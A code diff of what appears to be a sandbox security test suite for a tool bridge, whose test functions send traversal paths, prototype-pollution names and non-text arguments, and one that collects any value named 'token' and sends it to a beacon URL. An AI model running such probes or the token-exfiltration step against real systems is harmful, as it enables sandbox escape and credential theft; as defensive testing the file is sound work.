@@ -108,42 +108,41 @@ async def function_without_a_tool(beacon, mark):
 
 async def tool_nobody_defined(beacon, mark):
     """Shows nothing: an unprotected worker has no tools."""
-    from eliza_tools.bridge import _send
-
-    await _send(mark, '{"url": "/"}')
+    await sent(mark, '{"url": "/"}')
 
 
 async def tool_of_a_prototype(beacon, mark):
     """Shows nothing: an unprotected worker has no tools."""
-    from eliza_tools.bridge import _send
-
     for name in ("__proto__", "constructor", "toString"):
-        await _send(name, f'{{"function_name": "{mark}"}}')
+        await sent(name, f'{{"function_name": "{mark}"}}')
 
 
 async def function_outside_of_its_folder(beacon, mark):
     """Shows nothing: an unprotected worker has no tools."""
-    from eliza_tools.bridge import _send
-
     for path in (f"../../rest/v1/{mark}", f"..%2F{mark}", f"echoes/../{mark}", f"echoes?{mark}", f"//{mark}"):
-        await _send("invoke_function", json_of(function_name=path, payload={}))
+        await sent("invoke_function", json_of(function_name=path, payload={}))
 
 
 async def arguments_that_are_no_text(beacon, mark):
     """Shows nothing: an unprotected worker has no tools."""
-    from eliza_tools.bridge import _send
-
-    await _send(options(toString=mark), options(function_name=mark))
+    await sent(options(toString=mark), options(function_name=mark))
 
 
 async def tokens_in_reach(beacon, mark):
     """Shows nothing: an unprotected worker has no session to look for."""
-    from eliza_tools.bridge import _send
+    from eliza_tools.bridge import _post
 
-    for owner in (_send, js, js.globalThis):
+    for owner in (_post, js, js.globalThis):
         for name in dir(owner):
             if "token" in name.lower():
-                await _send("browse_web", json_of(url=f"{beacon}/{getattr(owner, name)}"))
+                await sent("browse_web", json_of(url=f"{beacon}/{getattr(owner, name)}"))
+
+
+def sent(tool, arguments):
+    """The reply to come, past the methods of `tools` and what they check."""
+    from eliza_tools.bridge import Exchange
+
+    return Exchange(tool, arguments).__enter__().reply
 
 
 def json_of(**values):
